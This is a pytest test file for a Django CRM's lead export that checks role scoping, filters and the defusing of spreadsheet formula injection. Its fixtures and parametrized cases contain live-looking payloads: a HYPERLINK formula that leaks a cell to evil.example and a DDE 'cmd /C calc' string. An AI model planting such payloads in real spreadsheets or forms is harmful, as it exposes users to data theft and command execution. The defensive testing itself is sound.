"""Export of the lead list: same scope and filters, CSV streamed, XLSX typed, formulas defused."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.http import HttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from leads.exporting import csv_lines, header, neutralise
from leads.models import Lead, LeadSource, Stage, Temperature
from tests.conftest import Cast, client_for
from tests.factories import ProductLineFactory
from tests.factories_leads import LeadFactory

pytestmark = pytest.mark.django_db

EXPORT = reverse("leads:export")


def content(response: HttpResponse) -> bytes:
    if response.streaming:
        return b"".join(
            part.encode() if isinstance(part, str) else part for part in response.streaming_content
        )
    return response.content


def csv_rows(client: Client, **params: Any) -> list[dict[str, str]]:
    response = client.get(EXPORT, {"format": "csv", **params})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="leads-')
    return list(csv.DictReader(io.StringIO(content(response).decode("utf-8-sig"))))


def xlsx_rows(client: Client, **params: Any) -> list[list[Any]]:
    response = client.get(EXPORT, {"format": "xlsx", **params})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert ".xlsx" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(content(response)), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


# --- The pure function ------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+46 70 123", "'+46 70 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\0=1", "'\0=1"),
        ("Anna = Boss", "Anna = Boss"),
        ("anna@example.com", "anna@example.com"),
        ("", ""),
        (-5, -5),
        (Decimal("-1.50"), Decimal("-1.50")),
        (None, None),
    ],
)
def test_neutralise_prefixes_only_text_that_would_run_as_a_formula(
    value: Any, expected: Any
) -> None:
    assert neutralise(value) == expected


def test_neutralise_is_idempotent() -> None:
    assert neutralise(neutralise("=1")) == "'=1"


def test_csv_lines_escape_every_text_cell() -> None:
    lines = list(csv_lines([["=cmd|' /C calc'!A0", "-x", 3, Decimal("2.50"), None]]))
    assert lines[0].startswith("\ufeffID,Created,")
    row = next(csv.reader(io.StringIO(lines[1])))
    assert row == ["'=cmd|' /C calc'!A0", "'-x", "3", "2.50", ""]


# --- Scope and filters ------------------------------------------------------------


@pytest.fixture
def leads(cast: Cast) -> dict[str, Lead]:
    return {
        "rep": LeadFactory(owner=cast.rep, company_name="Alice Co", stage=Stage.SQL),
        "teammate": LeadFactory(owner=cast.teammate, company_name="Bob Co", stage=Stage.HOT),
        "other": LeadFactory(owner=cast.other_rep, company_name="Charlie Co", stage=Stage.SQL),
        "unassigned": LeadFactory(owner=None, company_name="Nobody Co", stage=Stage.SUSPECT),
    }


@pytest.mark.parametrize(
    ("role", "companies"),
    [
        ("owner_rep", {"Alice Co"}),
        ("manager", {"Alice Co", "Bob Co"}),
        ("other_rep", {"Charlie Co"}),
        ("marketing", {"Bob Co", "Nobody Co"}),
        ("admin", {"Alice Co", "Bob Co", "Charlie Co", "Nobody Co"}),
    ],
)
def test_export_holds_exactly_what_the_role_may_see(
    cast: Cast, leads: dict[str, Lead], role: str, companies: set[str]
) -> None:
    client = client_for(cast.roles()[role])
    assert {row["Company"] for row in csv_rows(client)} == companies
    assert {row[3] for row in xlsx_rows(client)[1:]} == companies


def test_export_applies_the_lists_filters_and_sort(cast: Cast, leads: dict[str, Lead]) -> None:
    client = client_for(cast.manager)
    assert [row["Company"] for row in csv_rows(client, stage="sql")] == ["Alice Co"]
    assert [row["Company"] for row in csv_rows(client, q="bob")] == ["Bob Co"]
    assert [row["Company"] for row in csv_rows(client, sort="created")] == ["Alice Co", "Bob Co"]
    list_page = client.get(reverse("leads:list"), {"stage": "sql"}).content.decode()
    assert f"{EXPORT}?stage=sql&amp;format=csv" in list_page


def test_export_is_not_limited_to_a_page(cast: Cast) -> None:
    for _ in range(120):
        LeadFactory(owner=cast.rep)
    assert len(csv_rows(client_for(cast.rep))) == 120


def test_export_refuses_bad_filters_and_formats_with_a_message(cast: Cast) -> None:
    client = client_for(cast.rep)
    response = client.get(EXPORT, {"format": "pdf", "stage": "sql"})
    assert (
        response.status_code == 302 and response["Location"] == reverse("leads:list") + "?stage=sql"
    )
    assert "Export as CSV or XLSX." in client.get(response["Location"]).content.decode()
    response = client.get(EXPORT, {"format": "csv", "score_min": "lots"})
    assert response.status_code == 302
    assert (
        "Correct the filters before exporting." in client.get(response["Location"]).content.decode()
    )


def test_anonymous_visitors_cannot_export(leads: dict[str, Lead]) -> None:
    response = Client().get(EXPORT, {"format": "csv"})
    assert response.status_code == 302 and reverse("login") in response["Location"]


# --- Content and escaping ---------------------------------------------------------


@pytest.fixture
def hostile(cast: Cast) -> Lead:
    """A web-to-lead form filled in by someone who knows spreadsheets."""
    lead = LeadFactory(
        owner=cast.rep,
        contact_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        company_name="@SUM(1+1)*cmd|' /C calc'!A0",
        email="plain@example.com",
        phone="+46 70 123 45 67",
        source=LeadSource.LIVE_CHAT,
        stage=Stage.WARM,
        temperature=Temperature.WARM,
        score=64,
        estimated_value=Decimal("12500.50"),
        timeframe=dt.date(2026, 5, 1),
        win_probability=Decimal("0.2500"),
    )
    lead.product_lines.add(ProductLineFactory(name="-Hardware"), ProductLineFactory(name="Cloud"))
    return lead


def test_csv_content_is_labelled_and_escaped(cast: Cast, hostile: Lead) -> None:
    (row,) = csv_rows(client_for(cast.rep))
    assert list(row) == header()
    assert row["ID"] == str(hostile.pk)
    assert row["Contact name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["Company"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["Phone"] == "'+46 70 123 45 67"
    assert row["Email"] == "plain@example.com"
    assert row["Product lines"] == "'-Hardware, Cloud"
    assert (row["Source"], row["Stage"], row["Temperature"]) == (
        "Website live chat",
        "Warm",
        "Warm",
    )
    assert (row["Score"], row["Estimated value"], row["Buying timeframe"]) == (
        "64",
        "12500.50",
        "2026-05-01",
    )
    assert row["Owner"] == "Alice Rep" and row["Team"] == "North"


def test_xlsx_content_is_typed_and_escaped(cast: Cast, hostile: Lead) -> None:
    rows = xlsx_rows(client_for(cast.rep))
    assert rows[0] == header()
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Contact name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["Company"].startswith("'@SUM")
    assert row["Phone"] == "'+46 70 123 45 67"
    assert row["Product lines"] == "'-Hardware, Cloud"
    assert row["Score"] == 64 and row["Estimated value"] == 12500.5
    assert row["Buying timeframe"] == dt.datetime(2026, 5, 1)
    assert isinstance(row["Created"], dt.datetime)


def test_xlsx_cells_are_never_formulas(cast: Cast, hostile: Lead) -> None:
    response = client_for(cast.rep).get(EXPORT, {"format": "xlsx"})
    workbook = load_workbook(io.BytesIO(content(response)))
    for row in workbook.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


def test_export_queries_do_not_grow_per_lead(cast: Cast) -> None:
    """Queries: 1 session, 2 user, 3 team/member ids, 4 owner choices (the filter form
    validating), 5 the
    leads with their related names joined and their product lines as an array
    subquery, read through a server-side cursor in chunks of 2,000."""
    client = client_for(cast.manager)
    line = ProductLineFactory()

    def count() -> int:
        with CaptureQueriesContext(connection) as captured:
            csv_rows(client)
        return len(captured)

    for _ in range(5):
        LeadFactory(owner=cast.rep).product_lines.add(line)
    five = count()
    for _ in range(45):
        LeadFactory(owner=cast.teammate).product_lines.add(line)
    assert count() == five == 5
